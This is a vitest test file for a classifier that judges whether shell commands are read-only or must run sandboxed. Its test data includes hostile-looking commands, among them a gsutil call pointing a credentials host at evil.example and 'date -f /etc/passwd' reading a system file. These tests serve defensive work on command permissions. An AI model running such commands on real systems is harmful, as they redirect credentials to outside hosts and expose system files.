import { describe, expect, test } from 'vitest';
import type { Part } from '../src/facts/part.ts';
import { shellParts } from '../src/facts/shell/effects/shell-parts.ts';
import { staysBare } from '../src/sandbox/stays-bare.ts';
import { fixedWorld } from '../src/world/fixed-world.ts';

const world = fixedWorld();
const partOf = (text: string): Part => shellParts(text, world)[0];

describe('Finding 3: that a command only prints is earned by its program', () => {
  test.each([
    'prisma --version',
    'prisma --help',
    'husky --version',
    'husky --help',
    'composer --help',
    'dotnet --version',
    'pytest --version',
    'terragrunt --version',
    'terragrunt providers',
    'terragrunt fmt -check',
    'wrangler whoami',
    'gsutil -o Credentials:gs_json_host=evil.example ls gs://b',
    'docker exec app make version',
    'docker exec app evil --version',
    'docker exec app mvn --version',
    'docker exec app ctest -V',
    'docker exec kafka kafka-topics --bootstrap-server evil.example:9092 --list',
    'docker exec kafka ./kafka-topics --bootstrap-server localhost:9092 --list',
    'docker exec app date -f /etc/passwd',
    'docker exec app du --files0-from=/etc/passwd',
  ])('%s is not read-only', (text) => {
    expect(partOf(text).readOnly).toBe(false);
  });

  test.each([
    'composer --version',
    'bun --version',
    'ruff --version',
    'terraform --version',
    'biome --version',
    'docker exec app node --version',
    'docker exec app du -sh /var/lib',
    'docker exec kafka kafka-topics.sh --bootstrap-server localhost:9092 --list',
  ])('%s is', (text) => {
    expect(partOf(text).readOnly).toBe(true);
  });

  test('by the manual alone it runs in the sandbox, so that no sandboxed call writes what it loads', () => {
    expect(staysBare(partOf('terraform --version'), world)).toBe(false);
    expect(staysBare(partOf('bun --version'), world)).toBe(false);
    expect(staysBare(partOf('rg --version'), world)).toBe(true);
  });

  test.each([
    'rails server',
    'flask run',
    'docker compose up -d',
    'npm version patch',
    'bundle list',
    'mix deps',
  ])('%s loads code of the project, so it runs in the sandbox', (text) =>
    expect(staysBare(partOf(text), world)).toBe(false),
  );

  test.each(['npm view react', 'curl http://localhost:3000/health'])('%s loads none', (text) => {
    expect(staysBare(partOf(text), world)).toBe(true);
  });

  test('a client of a cloud proves nothing where a file that it loads stands', () => {
    const standing = fixedWorld({
      entry: (path) => ({ is: path === '/home/dev/project/.env' ? 'file' : 'missing' }),
      holds: () => [],
    });
    expect(shellParts('netlify status', standing)[0].readOnly).toBe(false);
    expect(shellParts('cd app && netlify status', standing).every(({ readOnly }) => readOnly)).toBe(false);
    expect(partOf('netlify status').readOnly).toBe(true);
  });
});
